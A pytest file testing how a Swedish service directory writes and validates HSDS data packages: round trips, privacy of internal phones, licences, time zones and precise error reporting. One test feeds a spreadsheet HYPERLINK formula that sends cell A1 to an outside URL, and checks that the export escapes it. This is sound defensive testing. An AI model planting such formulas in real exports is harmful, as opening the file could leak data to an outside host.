"""HSDS tabular data packages: lossless write and read, and every bad row reported with file, row and column."""

from __future__ import annotations

import csv
import json
import re
import tempfile
from pathlib import Path
from typing import Any, cast
from uuid import UUID, uuid4

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from avhopp.directory.catalogue.hsds.package import (
    PackageOrganization,
    PackageRejectedError,
    read_package,
    write_package,
)
from avhopp.directory.catalogue.hsds.vendored import datapackage_descriptor
from tests.directory.test_hsds_examples import (
    CATALOGUE,
    ORG_A,
    ORG_C,
    PROPERTIES,
    SERVICE_A1,
    SERVICE_B1,
    SHARED_LOCATION,
    catalogue_items,
)

ATTRIBUTION = "Human Services Data Specification: an Open Referral resource (https://openreferral.org/)"


@pytest.fixture
def package(tmp_path: Path) -> Path:
    write_package(tmp_path, CATALOGUE, include_internal=True)
    return tmp_path


def _records(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _write_records(path: Path, records: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(records)


def row_of(package: Path, file: str, **match: str) -> int:
    """The 1-based data row of `file` whose columns have the given values."""
    header, *rows = _records(package / file)
    for number, row in enumerate(rows, start=1):
        if all(row[header.index(column)] == value for column, value in match.items()):
            return number
    raise LookupError(match)


def edit(package: Path, file: str, row: int, column: str, value: str) -> None:
    """Set one cell."""
    header, *rows = _records(package / file)
    rows[row - 1][header.index(column)] = value
    _write_records(package / file, [header, *rows])


def drop_column(package: Path, file: str, column: str) -> None:
    """Remove a column from a file."""
    header, *rows = _records(package / file)
    index = header.index(column)
    _write_records(package / file, [[cell for i, cell in enumerate(row) if i != index] for row in [header, *rows]])


def problems_of(package: Path) -> set[tuple[str, int | None, str | None]]:
    """Where the problems of a package are (file, row, column); it must be rejected."""
    with pytest.raises(PackageRejectedError) as raised:
        read_package(package)
    return {(problem.file, problem.row, problem.field) for problem in raised.value.problems}


def test_write_then_read_gives_back_the_catalogue(package: Path) -> None:
    assert read_package(package) == CATALOGUE


@PROPERTIES
@given(st.lists(catalogue_items(), min_size=1, max_size=3, unique_by=lambda item: item.organization.id))
def test_drawn_catalogues_survive_write_and_read(catalogue: list[PackageOrganization]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        write_package(Path(folder), catalogue, include_internal=True)
        assert read_package(Path(folder)) == tuple(catalogue)


def test_public_package_leaves_out_internal_phones(tmp_path: Path) -> None:
    write_package(tmp_path, CATALOGUE, include_internal=False)
    internal = [phone for item in CATALOGUE for s in item.services for phone in s.phones if not phone.public]
    assert internal
    for file in tmp_path.iterdir():
        text = file.read_text(encoding="utf-8")
        assert all(phone.number not in text and str(phone.id) not in text for phone in internal), file.name
    public = tuple(
        PackageOrganization(
            item.owner_slug,
            item.organization,
            tuple(
                msgspec.structs.replace(s, phones=tuple(phone for phone in s.phones if phone.public))
                for s in item.services
            ),
        )
        for item in CATALOGUE
    )
    assert read_package(tmp_path) == public
    assert "publicera inte" not in (tmp_path / "datapackage.json").read_text(encoding="utf-8")


def test_descriptor_lists_what_was_written_with_vendored_schemas_and_licence(package: Path) -> None:
    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor["profile"] == "tabular-data-package"
    assert descriptor["schemaLicenses"] == [
        {
            "name": "CC-BY-SA-4.0",
            "path": "https://creativecommons.org/licenses/by-sa/4.0/",
            "title": "Creative Commons Attribution-ShareAlike 4.0",
        }
    ]
    assert ATTRIBUTION in descriptor["description"]
    assert descriptor["sources"] == [
        {"title": "Human Services Data Specification: an Open Referral resource", "path": "https://openreferral.org/"}
    ]
    assert "publicera inte" in descriptor["description"]  # this package holds internal numbers
    listed = {resource["path"] for resource in descriptor["resources"]}
    assert listed == {file.name for file in package.iterdir() if file.suffix == ".csv"}
    resources = cast("list[dict[str, Any]]", datapackage_descriptor()["resources"])
    vendored = {resource["name"]: resource for resource in resources}
    for resource in descriptor["resources"]:
        assert resource == vendored[resource["name"]]
        header = _records(package / resource["path"])[0]
        assert header == [field["name"] for field in resource["schema"]["fields"]]
    # Every foreign key of the copied schemas points at a resource in the package.
    names = {resource["name"] for resource in descriptor["resources"]}
    for resource in descriptor["resources"]:
        assert {key["reference"]["resource"] for key in resource["schema"].get("foreignKeys", [])} <= names


def test_csv_is_utf8_with_rfc4180_quoting(package: Path) -> None:
    raw = (package / "locations.csv").read_bytes()
    assert raw.endswith(b"\r\n")
    assert '"Ingång från gården, ring på ""Mottagning"".\nHiss finns."'.encode() in raw
    schedules = _records(package / "schedules.csv")
    header = schedules[0]
    assert [row[header.index("byday")] for row in schedules[1:3]] == ["MO,TU,WE,TH,FR", "SA"]
    assert [row[header.index("opens_at")] for row in schedules[1:3]] == ["08:00", "10:00:30"]


def test_owner_travels_as_an_organization_identifier(package: Path) -> None:
    row = row_of(
        package, "organization_identifiers.csv", organization_id=str(ORG_A.id), identifier_scheme="avhopp-tenant"
    )
    header, *rows = _records(package / "organization_identifiers.csv")
    assert rows[row - 1][header.index("identifier")] == "kommun-1480"


def test_a_shared_location_is_written_once(package: Path) -> None:
    locations = _records(package / "locations.csv")[1:]
    assert [row[0] for row in locations].count(str(SHARED_LOCATION.id)) == 1


def test_a_location_id_with_two_contents_is_refused(tmp_path: Path) -> None:
    changed = msgspec.structs.replace(SHARED_LOCATION, name="Ett annat namn")
    other = msgspec.structs.replace(SERVICE_A1, id=uuid4(), locations=(changed,))
    with pytest.raises(ValueError, match="different content"):
        write_package(tmp_path, [PackageOrganization("x", ORG_A, (SERVICE_A1, other))], include_internal=True)


def test_every_bad_row_in_every_file_is_listed(package: Path) -> None:
    services = row_of(package, "services.csv", id=str(SERVICE_B1.id))
    edit(package, "services.csv", services, "minimum_age", "arton")
    phone = row_of(package, "phones.csv", id=str(UUID(int=201)))
    edit(package, "phones.csv", phone, "id", "inte-ett-uuid")
    area = row_of(package, "service_areas.csv", uri="urn:avhopp:area:municipality:1280", service_id=str(SERVICE_A1.id))
    edit(package, "service_areas.csv", area, "uri", "urn:avhopp:area:municipality:9999")
    attribute = row_of(package, "attributes.csv", link_id=str(SERVICE_A1.id), link_type="target_group")
    edit(package, "attributes.csv", attribute, "taxonomy_term_id", str(uuid4()))
    contact = row_of(package, "contacts.csv", id=str(UUID(int=302)))
    edit(package, "contacts.csv", contact, "service_id", str(uuid4()))
    address = row_of(package, "addresses.csv", location_id=str(SHARED_LOCATION.id))
    edit(package, "addresses.csv", address, "postal_code", "4130")
    number = row_of(package, "organization_identifiers.csv", organization_id=str(ORG_C.id), identifier_scheme="SE-BLV")
    edit(package, "organization_identifiers.csv", number, "identifier", "2120001124")
    assert problems_of(package) == {
        ("services.csv", services, "minimum_age"),
        ("phones.csv", phone, "id"),
        ("service_areas.csv", area, "uri"),
        ("attributes.csv", attribute, "taxonomy_term_id"),
        ("contacts.csv", contact, "service_id"),
        ("addresses.csv", address, "postal_code"),
        ("organization_identifiers.csv", number, "identifier"),
    }


def test_a_broken_file_does_not_hide_problems_elsewhere_in_the_same_service(package: Path) -> None:
    drop_column(package, "locations.csv", "location_type")
    area = row_of(package, "service_areas.csv", uri="urn:avhopp:area:municipality:1280", service_id=str(SERVICE_A1.id))
    edit(package, "service_areas.csv", area, "uri", "urn:avhopp:area:municipality:9999")
    schedule = row_of(package, "schedules.csv", byday="SA")
    edit(package, "schedules.csv", schedule, "closes_at", "09:00")
    assert problems_of(package) == {
        ("locations.csv", None, "location_type"),
        ("service_areas.csv", area, "uri"),
        ("schedules.csv", schedule, "closes_at"),
    }


def test_a_bad_only_area_is_reported_once(package: Path) -> None:
    area = row_of(package, "service_areas.csv", service_id=str(SERVICE_B1.id))
    edit(package, "service_areas.csv", area, "id", "x")
    # Not also "the service has no area": that follows from the bad row.
    assert problems_of(package) == {("service_areas.csv", area, "id")}


def test_problems_are_in_swedish_and_name_the_row(package: Path) -> None:
    row = row_of(package, "services.csv", id=str(SERVICE_A1.id))
    edit(package, "services.csv", row, "maximum_age", "29.5")
    with pytest.raises(PackageRejectedError) as raised:
        read_package(package)
    [problem] = raised.value.problems
    assert (problem.file, problem.row, problem.field) == ("services.csv", row, "maximum_age")
    assert "helt antal år" in problem.message


@pytest.mark.parametrize(
    ("file", "match", "column", "value"),
    [
        ("services.csv", {"id": str(SERVICE_B1.id)}, "id", "0000-1111"),
        ("service_at_location.csv", {"location_id": str(SHARED_LOCATION.id)}, "location_id", "ABC"),
        ("services.csv", {"id": str(SERVICE_B1.id)}, "organization_id", "{not a uuid}"),
    ],
)
def test_a_malformed_uuid_names_its_column(
    package: Path, file: str, match: dict[str, str], column: str, value: str
) -> None:
    row = row_of(package, file, **match)
    edit(package, file, row, column, value)
    assert (file, row, column) in problems_of(package)


@pytest.mark.parametrize(
    ("file", "column"),
    [("services.csv", "status"), ("attributes.csv", "taxonomy_term_id"), ("organizations.csv", "name")],
)
def test_a_missing_required_column_names_it(package: Path, file: str, column: str) -> None:
    drop_column(package, file, column)
    assert (file, None, column) in problems_of(package)


def test_unknown_municipality_codes_name_their_field(package: Path) -> None:
    area = row_of(package, "service_areas.csv", uri="urn:avhopp:area:municipality:1480")
    edit(package, "service_areas.csv", area, "uri", "urn:avhopp:area:municipality:0000")
    address = row_of(package, "addresses.csv", location_id=str(SHARED_LOCATION.id))
    edit(package, "addresses.csv", address, "region", "Atlantis")
    assert problems_of(package) == {("service_areas.csv", area, "uri"), ("addresses.csv", address, "region")}


@pytest.mark.parametrize(
    ("file", "match", "column", "value"),
    [
        # A required value left empty.
        ("services.csv", {"id": str(SERVICE_B1.id)}, "name", ""),
        # A value outside HSDS's list.
        ("services.csv", {"id": str(SERVICE_B1.id)}, "status", "open"),
        # A foreign key to nothing.
        ("service_at_location.csv", {"location_id": str(SHARED_LOCATION.id)}, "location_id", str(uuid4())),
        # A term that is not ours.
        ("attributes.csv", {"link_type": "operation_type"}, "taxonomy_term_id", str(uuid4())),
        # An attribute on something we do not read.
        ("attributes.csv", {"link_type": "operation_type"}, "link_entity", "program"),
        # A schedule our opening hours cannot express.
        ("schedules.csv", {"byday": "SA"}, "freq", "MONTHLY"),
        ("schedules.csv", {"byday": "SA"}, "opens_at", "tio"),
        # An id twice.
        ("phones.csv", {"id": str(UUID(int=203))}, "id", str(UUID(int=201))),
    ],
    # Named, not numbered by value: a random id in a test's name differs between the suite's processes.
    ids=["empty", "outside-list", "dangling-key", "foreign-term", "unread-entity", "schedule", "time", "twice"],
)
def test_each_kind_of_bad_cell_is_reported(
    package: Path, file: str, match: dict[str, str], column: str, value: str
) -> None:
    row = row_of(package, file, **match)
    edit(package, file, row, column, value)
    assert (file, row, column) in problems_of(package)


def test_a_package_without_its_descriptor_or_organisations_is_rejected(package: Path) -> None:
    (package / "datapackage.json").unlink()
    (package / "organizations.csv").unlink()
    assert {("datapackage.json", None, None), ("organizations.csv", None, None)} <= problems_of(package)


def test_an_organisation_without_owner_is_rejected(package: Path) -> None:
    rows = _records(package / "organization_identifiers.csv")
    kept = [
        row for row in rows if row[rows[0].index("identifier_scheme")] != "avhopp-tenant" or row[1] != str(ORG_C.id)
    ]
    _write_records(package / "organization_identifiers.csv", kept)
    row = row_of(package, "organizations.csv", id=str(ORG_C.id))
    assert problems_of(package) == {("organizations.csv", row, "id")}


def test_optional_files_may_be_missing(tmp_path: Path) -> None:
    only = (PackageOrganization("nytt-liv", CATALOGUE[1].organization, ()),)
    write_package(tmp_path, only, include_internal=False)
    for name in ("phones.csv", "schedules.csv", "contacts.csv", "languages.csv", "programs.csv"):
        (tmp_path / name).unlink()
    assert read_package(tmp_path) == only


def test_a_time_zone_on_only_one_time_is_reported_not_a_crash(package: Path) -> None:
    row = row_of(package, "schedules.csv", byday="SA")
    edit(package, "schedules.csv", row, "opens_at", "10:00+01:00")
    assert problems_of(package) == {("schedules.csv", row, "closes_at")}


def test_a_row_with_too_many_fields_is_reported_and_blank_lines_are_not(package: Path) -> None:
    header, *rows = _records(package / "contacts.csv")
    rows[0].append("överbliven")
    _write_records(package / "contacts.csv", [header, *rows, []])
    assert problems_of(package) == {("contacts.csv", 1, None)}
    _write_records(package / "contacts.csv", [header, *rows[1:], [], []])
    assert read_package(package) != CATALOGUE  # the first contact is gone, the blank lines are ignored


def test_no_cell_of_an_export_is_a_formula_and_the_import_restores_them(tmp_path: Path) -> None:
    formula = '=HYPERLINK("https://example.com/?"&A1,"Klicka")'
    organization = msgspec.structs.replace(ORG_A, name=formula, alternate_name="@SUM(1+1)")
    service = msgspec.structs.replace(SERVICE_A1, name="-2+3", description="'=redan skyddad")
    catalogue = (PackageOrganization("kommun-1480", organization, (service,)),)
    write_package(tmp_path, catalogue, include_internal=True)

    cells = [cell for file in tmp_path.glob("*.csv") for record in _records(file) for cell in record]
    assert f"'{formula}" in cells
    assert "'@SUM(1+1)" in cells
    assert "'-2+3" in cells
    assert "''=redan skyddad" in cells
    assert any(cell.startswith("'+46") for cell in cells)  # phone numbers in international form
    formulas = [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    assert [cell for cell in formulas if not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)] == []
    assert read_package(tmp_path) == catalogue


def test_the_data_is_licensed_cc0_by_default_and_the_schemas_keep_cc_by_sa(package: Path) -> None:
    descriptor = json.loads((package / "datapackage.json").read_text(encoding="utf-8"))
    assert descriptor["licenses"] == [
        {
            "name": "CC0-1.0",
            "path": "https://creativecommons.org/publicdomain/zero/1.0/",
            "title": "Creative Commons Zero v1.0 Universal",
        }
    ]
    assert "CC0-1.0" in descriptor["description"]
    assert "den licensen gäller inte uppgifterna" in descriptor["description"]
    assert [licence["name"] for licence in descriptor["schemaLicenses"]] == ["CC-BY-SA-4.0"]


@pytest.mark.parametrize("licence", ["CC-BY-4.0", "CC-BY-SA-4.0"])
def test_the_data_licence_is_the_one_chosen(tmp_path: Path, licence: str) -> None:
    write_package(tmp_path, CATALOGUE, include_internal=False, licence=licence)
    descriptor = json.loads((tmp_path / "datapackage.json").read_text(encoding="utf-8"))
    assert [item["name"] for item in descriptor["licenses"]] == [licence]
    assert read_package(tmp_path)  # a package under any of the licences reads back


def test_every_schedule_says_it_is_in_stockholm_time(package: Path) -> None:
    header, *schedules = _records(package / "schedules.csv")
    assert schedules
    attributes_header, *attributes = _records(package / "attributes.csv")
    zones = {
        row[attributes_header.index("link_id")]: row[attributes_header.index("value")]
        for row in attributes
        if row[attributes_header.index("link_entity")] == "schedule"
    }
    assert zones == {row[header.index("id")]: "Europe/Stockholm" for row in schedules}
    # HSDS's own `timezone` is a fixed UTC offset, which summer time would make wrong half the year.
    assert {row[header.index("timezone")] for row in schedules} == {""}
    terms_header, *terms = _records(package / "taxonomy_terms.csv")
    assert "time_zone" in {row[terms_header.index("code")] for row in terms}


def test_a_schedule_in_another_time_zone_is_refused(package: Path) -> None:
    records = _records(package / "attributes.csv")
    header = records[0]
    for row in records[1:]:
        if row[header.index("link_entity")] == "schedule":
            row[header.index("value")] = "America/New_York"
            break
    _write_records(package / "attributes.csv", records)
    with pytest.raises(PackageRejectedError) as rejected:
        read_package(package)
    assert any("Europe/Stockholm" in problem.message for problem in rejected.value.problems)
